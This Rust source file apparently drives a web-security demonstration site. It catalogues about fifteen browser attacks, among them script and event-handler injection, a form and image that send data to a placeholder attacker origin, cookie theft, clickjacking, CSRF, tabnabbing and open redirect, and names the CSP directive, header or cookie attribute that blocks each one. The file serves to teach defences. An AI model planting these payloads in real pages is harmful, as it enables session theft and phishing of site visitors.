//! The attacks that a visitor can try: what is tried, where, and what stops it.

use crate::origins::Origins;

/// An attack. Its page is `/attacks/<name>` on the site, and on the origin without protection.
#[derive(Debug)]
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) title: &'static str,
    /// What is tried, and what it would be good for.
    pub(crate) tries: &'static str,
    pub(crate) kind: Kind,
    /// What the browser or the server does, in a sentence.
    pub(crate) outcome: &'static str,
    pub(crate) stops: &'static [Stop],
}

/// How the attack is carried out.
#[derive(Debug)]
pub(crate) enum Kind {
    /// Markup that a vulnerable page prints without escaping. `{attacker}` is the attacker's origin.
    Markup { markup: &'static str, hint: &'static str },
    /// Markup that a vulnerable script of the page writes into it.
    Sink { markup: &'static str },
    /// Markup that steals the cookies; the page's own script reads them too, and shows what it sees.
    Cookies { markup: &'static str },
    /// A page of the attacker, at the same path as the attack's.
    FromAttacker { code: &'static str },
    /// A link of the site to the attacker, with what the attacker does there.
    Opener { code: &'static str },
    /// A link of the site: its path, with `{attacker}`, and the code that is meant.
    Path { path: &'static str, code: &'static str, hint: &'static str },
}

/// From where an attack comes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Group {
    Injected,
    OtherSite,
    Borrowed,
}

impl Group {
    pub(crate) fn title(self) -> &'static str {
        match self {
            Self::Injected => "Written into a page of the site",
            Self::OtherSite => "From another site",
            Self::Borrowed => "In the name of the site",
        }
    }

    pub(crate) fn attacks(self) -> impl Iterator<Item = &'static Attack> {
        ATTACKS.iter().filter(move |attack| attack.group() == self)
    }
}

/// What stops an attack.
#[derive(Debug)]
pub(crate) enum Stop {
    /// A directive of the page's Content-Security-Policy.
    Directive(&'static str),
    /// A header of the page.
    Header(&'static str),
    /// The attribute of the session's cookie.
    Cookie(&'static str),
    /// A header of the browser's request, which the server reads.
    Request(&'static str),
    /// A header of a file that a visitor has uploaded.
    File(&'static str),
    /// Code of the site.
    Code(&'static str),
}

impl Attack {
    pub(crate) fn find(name: &str) -> Option<&'static Self> {
        ATTACKS.iter().find(|attack| attack.name == name)
    }

    fn group(&self) -> Group {
        match self.kind {
            Kind::Markup { .. } | Kind::Sink { .. } | Kind::Cookies { .. } => Group::Injected,
            Kind::FromAttacker { .. } | Kind::Opener { .. } => Group::OtherSite,
            Kind::Path { .. } => Group::Borrowed,
        }
    }

    /// The attack that follows, or the first one after the last.
    pub(crate) fn next(&self) -> &'static Self {
        let place = ATTACKS.iter().position(|attack| attack.name == self.name).unwrap_or_default();
        &ATTACKS[(place + 1) % ATTACKS.len()]
    }

    /// Whether its code runs as a script, and then says so in the page.
    pub(crate) fn runs_code(&self) -> bool {
        matches!(self.kind, Kind::Markup { markup, .. } if markup.contains("#proof"))
    }

    /// The code of the attack as it is shown.
    pub(crate) fn code(&self, origins: &Origins) -> String {
        let code = match self.kind {
            Kind::Markup { markup, .. } | Kind::Sink { markup } | Kind::Cookies { markup } => markup,
            Kind::FromAttacker { code } | Kind::Opener { code } | Kind::Path { code, .. } => code,
        };
        code.replace("{attacker}", &origins.attacker).replace("{site}", &origins.site)
    }
}

/// A row for each attack. How it is blocked, and how it works without protection, is in `tests/browser/site.mjs`.
pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "script",
        title: "Inject a script",
        tries: "A comment contains a script, and the page prints it without escaping. The script could read everything on the page and act as the visitor.",
        kind: Kind::Markup {
            markup: r##"<script>document.querySelector("#proof").textContent = "The injected script ran."</script>"##,
            hint: "",
        },
        outcome: "The script has no nonce, so the browser does not run it.",
        stops: &[Stop::Directive("script-src")],
    },
    Attack {
        name: "handler",
        title: "Hide code in an attribute",
        tries: "A filter removes `<script>`, but not attributes such as `onload`, which run code as well.",
        kind: Kind::Markup {
            markup: r#"<svg onload="document.querySelector('#proof').textContent = 'The event handler ran.'"></svg>"#,
            hint: "",
        },
        outcome: "An attribute cannot carry a nonce, so no inline event handler runs.",
        stops: &[Stop::Directive("script-src")],
    },
    Attack {
        name: "link",
        title: "Plant a javascript: link",
        tries: "A visitor enters a `javascript:` URL as their website. It contains nothing to escape, and runs when somebody clicks it.",
        kind: Kind::Markup {
            markup: r#"<a href="javascript:void(document.querySelector('#proof').textContent = 'The link ran code.')">My website</a>"#,
            hint: "Click the link.",
        },
        outcome: "The browser follows no `javascript:` URL. Where the site prints the link with `Href`, it is not in the page at all.",
        stops: &[Stop::Directive("script-src"), Stop::Code(r#"<a href="{{ website|href }}">"#)],
    },
    Attack {
        name: "dom",
        title: "Write HTML with the page's own script",
        tries: "A trusted script of the page is vulnerable: it assigns a text of the visitor to `innerHTML`.",
        kind: Kind::Sink {
            markup: r#"<img src="data:," onerror="document.querySelector('#proof').textContent = 'The written HTML ran code.'">"#,
        },
        outcome: "The assignment throws an error: `innerHTML` accepts no string on this site.",
        stops: &[Stop::Directive("require-trusted-types-for"), Stop::Directive("trusted-types")],
    },
    Attack {
        name: "base",
        title: "Redirect every relative URL",
        tries: "An injected `base` element makes relative links, forms and scripts of the page lead to the attacker.",
        kind: Kind::Markup { markup: r#"<base href="{attacker}/">"#, hint: "" },
        outcome: "The browser ignores the element, and relative URLs still lead to this site.",
        stops: &[Stop::Directive("base-uri")],
    },
    Attack {
        name: "form",
        title: "Send a form to the attacker",
        tries: "No script is needed to steal what a visitor types: an injected form sends it to another origin.",
        kind: Kind::Markup {
            markup: r#"<form method="post" action="{attacker}/stolen"><label>Your session has expired. Enter your code <input name="code" value="123456" autocomplete="off"></label> <button>Continue</button></form>"#,
            hint: "Press the button.",
        },
        outcome: "The browser does not send the form.",
        stops: &[Stop::Directive("form-action")],
    },
    Attack {
        name: "image",
        title: "Smuggle data out in an image",
        tries: "The address of an injected image contains data of the page. Loading the image would tell the attacker.",
        kind: Kind::Markup {
            markup: r#"<img src="{attacker}/pixel?balance=1234" alt="an image of the attacker" width="360" height="48">"#,
            hint: "",
        },
        outcome: "The browser does not send the request.",
        stops: &[Stop::Directive("img-src")],
    },
    Attack {
        name: "style",
        title: "Cover the page with a fake one",
        tries: "A `style` attribute lays an element over the whole page: a copy of the login form, for example.",
        kind: Kind::Markup {
            markup: r#"<div style="position: fixed; inset: 0; z-index: 9; padding: 20vh 2rem; background: #7a1f1f; color: #fff; font-size: 1.5rem">This covers the whole page. Go back with your browser.</div>"#,
            hint: "",
        },
        outcome: "The browser ignores the attribute, and the element stays a line of text.",
        stops: &[Stop::Directive("style-src")],
    },
    Attack {
        name: "cookie",
        title: "Steal the session cookie",
        tries: "A script reads `document.cookie` and sends the session to the attacker, who is then logged in as the visitor.",
        kind: Kind::Cookies {
            markup: r##"<script>document.querySelector("#proof").textContent = "Stolen: " + document.cookie</script>"##,
        },
        outcome: "The script does not run, and even the page's own script cannot read the cookie.",
        stops: &[Stop::Cookie("HttpOnly"), Stop::Directive("script-src")],
    },
    Attack {
        name: "frame",
        title: "Frame the page",
        tries: "The attacker shows this site in an invisible frame, and makes visitors click its buttons (clickjacking).",
        kind: Kind::FromAttacker { code: r#"<iframe src="{site}/login"></iframe>"# },
        outcome: "The browser shows an empty frame. The server, which is told that the request is for a frame of another site, rejects it too.",
        stops: &[
            Stop::Directive("frame-ancestors"),
            Stop::Header("x-frame-options"),
            Stop::Request("sec-fetch-dest: iframe"),
        ],
    },
    Attack {
        name: "post",
        title: "Post a form from another site",
        tries: "A page of the attacker sends a form to this site. The browser would add the visitor's cookies (cross-site request forgery).",
        kind: Kind::FromAttacker {
            code: r#"<form method="post" action="{site}/greet"><input type="hidden" name="name" value="Mallory"></form>"#,
        },
        outcome: "The browser tells the server where the request comes from, and the server rejects it with status 403.",
        stops: &[Stop::Request("sec-fetch-site: cross-site"), Stop::Cookie("SameSite=Lax")],
    },
    Attack {
        name: "read",
        title: "Read data from another site",
        tries: "A page of the attacker asks this site for data with the visitor's cookies, and loads its files.",
        kind: Kind::FromAttacker {
            code: r#"<script>fetch("{site}/api/reports", { credentials: "include" })</script> <img src="{site}/static/logo.svg">"#,
        },
        outcome: "The server rejects both requests, and the browser would show the attacker neither answer.",
        stops: &[Stop::Request("sec-fetch-site: cross-site"), Stop::Header("cross-origin-resource-policy")],
    },
    Attack {
        name: "opener",
        title: "Take over the tab that opened a link",
        tries: "A link opens the attacker's page in a new tab. That page replaces the tab behind it with a copy of the login form.",
        kind: Kind::Opener { code: r#"<script>opener.location = "{attacker}/phishing"</script>"# },
        outcome: "The new tab has no reference to the one that opened it.",
        stops: &[Stop::Header("cross-origin-opener-policy")],
    },
    Attack {
        name: "upload",
        title: "Upload a page",
        tries: "A visitor uploads `cat.html`, a page with a script, as their picture. Opened on this site, it would run with the rights of the site.",
        kind: Kind::Path {
            path: "/files/cat.html",
            code: UPLOADED,
            hint: "The browser saves the file, and does not open it.",
        },
        outcome: "The browser saves the file. It is not displayed, guessed to be HTML, or run.",
        stops: &[
            Stop::File("content-disposition"),
            Stop::File("content-type"),
            Stop::File("x-content-type-options"),
            Stop::File("content-security-policy"),
        ],
    },
    Attack {
        name: "redirect",
        title: "Borrow the name of the site",
        tries: "A link starts with this site's address, which visitors trust, and redirects to the attacker (open redirect).",
        kind: Kind::Path {
            path: "/continue?to={attacker}/phishing",
            code: r#"<a href="{site}/continue?to={attacker}/phishing">"#,
            hint: "The site does not redirect to another origin.",
        },
        outcome: "The server sends no redirect: the target is not a path of this site.",
        stops: &[Stop::Code("RedirectTarget::parse(&to)?")],
    },
];

/// What the attacker has uploaded as their picture.
pub(crate) const UPLOADED: &str = r#"<!doctype html>
<title>A cat</title>
<p>A cat.</p>
<script>document.body.append("The script of the upload ran on " + location.host + ".")</script>
"#;
